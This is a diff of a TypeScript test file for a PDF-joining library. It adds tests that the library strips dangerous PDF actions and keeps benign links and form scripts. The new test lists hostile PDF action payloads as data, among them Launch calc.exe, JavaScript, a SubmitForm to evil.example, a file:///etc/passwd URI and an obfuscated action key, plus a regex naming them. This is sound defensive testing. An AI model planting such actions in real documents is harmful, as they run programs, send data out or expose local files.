@@ -16,7 +16,7 @@ import { pageSizes } from '@scriptorium/testing/pdf-reading';
 import { JoinError } from '../../src/join/join-error.ts';
 import { Joining } from '../../src/join/joining.ts';
 import { Dict, PdfString, Ref } from '../../src/read/values.ts';
-import { joined, joinedBytes, pagesOf } from './joined.ts';
+import { joined, joinedBytes, pagesOf, written } from './joined.ts';
 
 /** A document whose page says this. */
 export const saying = (text: string, pageKeys = ''): Buffer => {
@@ -116,7 +116,7 @@ describe('joining', () => {
   };
 
   it.each(HOSTILE_PDFS)('refuses $name, with its place', ({ name, make, code }) => {
-    const joining = new Joining({ bytesMax: 1e8 });
+    const joining = new Joining({ bytesMax: 1e8 }, () => true);
     joining.add({ bytes: plainPdf() });
     const bytes = make();
     const start = process.cpuUsage();
@@ -135,7 +135,7 @@ describe('joining', () => {
     ['without a password', () => encryptedPdf()],
     ['with a password', () => encryptedBy(plainPdf(), { user: 'secret' })],
   ])('refuses a document that is encrypted %s', async (_, make) => {
-    const joining = new Joining({ bytesMax: 1e8 });
+    const joining = new Joining({ bytesMax: 1e8 }, () => true);
     joining.add({ bytes: plainPdf() });
     const bytes = await make();
     expect(failure(() => joining.add({ bytes }))).toMatchObject({ code: 'DOCUMENT_ENCRYPTED', document: 1 });
@@ -174,11 +174,11 @@ describe('joining', () => {
   });
 
   it('refuses to go on after a failure, to end twice, and to join nothing', () => {
-    const failed = new Joining({ bytesMax: 1e8 });
+    const failed = new Joining({ bytesMax: 1e8 }, () => true);
     expect(failure(() => failed.add({ bytes: Buffer.from('no PDF') }))).toBeInstanceOf(JoinError);
     expect(failure(() => failed.add({ bytes: plainPdf() }))).toBeInstanceOf(Error);
     expect(failure(() => failed.finish())).toBeInstanceOf(Error);
-    expect(failure(() => new Joining({ bytesMax: 1e8 }).finish())).toBeInstanceOf(JoinError);
+    expect(failure(() => new Joining({ bytesMax: 1e8 }, () => true).finish())).toBeInstanceOf(JoinError);
   });
 
   it('refuses a page tree with a page twice, or without one of its pages', () => {
@@ -230,6 +230,53 @@ describe('properties of the result', () => {
       const title = info && document.get(info, 'Title');
       expect([options, title instanceof PdfString ? title.text : undefined]).toEqual([options, expected]);
     }
+  });
+
+  it('contain no actions that start, send or fetch something, and warnings name them', async () => {
+    const actions = [
+      '<</S/Launch/F(calc.exe)>>',
+      '<</S/JavaScript/JS(app.alert(1))>>',
+      '<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>',
+      '<</S/ImportData/F(x.fdf)>>',
+      '<</S/URI/URI(file:///etc/passwd)>>',
+      '<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>',
+      '<</S#2F/x/S/Launch/F(a)>>',
+      '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Launch/F(b)>>]>>',
+    ];
+    const links = actions.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${action}>>`);
+    const widget = '<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(evil())>>>>>>';
+    const bytes = classicPdf(onePage(`/Annots[${links.join('')}${widget}]/AA<</O ${actions[0]}>>`));
+    const result = await joined([{ bytes }]);
+    expect(result.warnings.map(({ code, document }) => [code, document])).toEqual([
+      ['SCRIPTS_REMOVED', 0],
+      ['ACTION_REMOVED', 0],
+      ['LINK_REMOVED', 0],
+    ]);
+    expect(result.warnings[1]?.message).toContain('Launch, SubmitForm, ImportData, GoToR');
+    expect(result.warnings[2]?.message).toContain('file:///etc/passwd');
+    const { document } = result;
+    const left = pagesOf(document).map((page) => written(document, page));
+    expect(left.join('')).not.toMatch(/Launch|JavaScript|SubmitForm|ImportData|GoToR|file:|evil/);
+    expect(left.join('')).toContain('/GoTo');
+  });
+
+  it('keep links to the web, to other files of the folder, and scripts that sum up fields', async () => {
+    const kept = [
+      '<</S/URI/URI(https://example.org/)>>',
+      '<</S/URI/URI(annex.pdf)>>',
+      '<</S/GoToR/F(annex.pdf)/D[0/Fit]>>',
+      '<</S/JavaScript/JS(AFSimple_Calculate\\("SUM", new Array \\("a", "b"\\)\\);)>>',
+      '<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>',
+    ];
+    const links = kept.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${action}>>`);
+    const { warnings, document } = await joined([
+      { bytes: classicPdf(onePage(`/Annots[${links.join('')}]`)) },
+    ]);
+    expect(warnings).toEqual([]);
+    const left = pagesOf(document)
+      .map((page) => written(document, page))
+      .join('');
+    expect(left.match(/\/URI|\/GoToR|AFSimple_Calculate|AFNumber_Format/g)).toHaveLength(7);
   });
 
   it('contain no scripts of documents, and a warning', async () => {
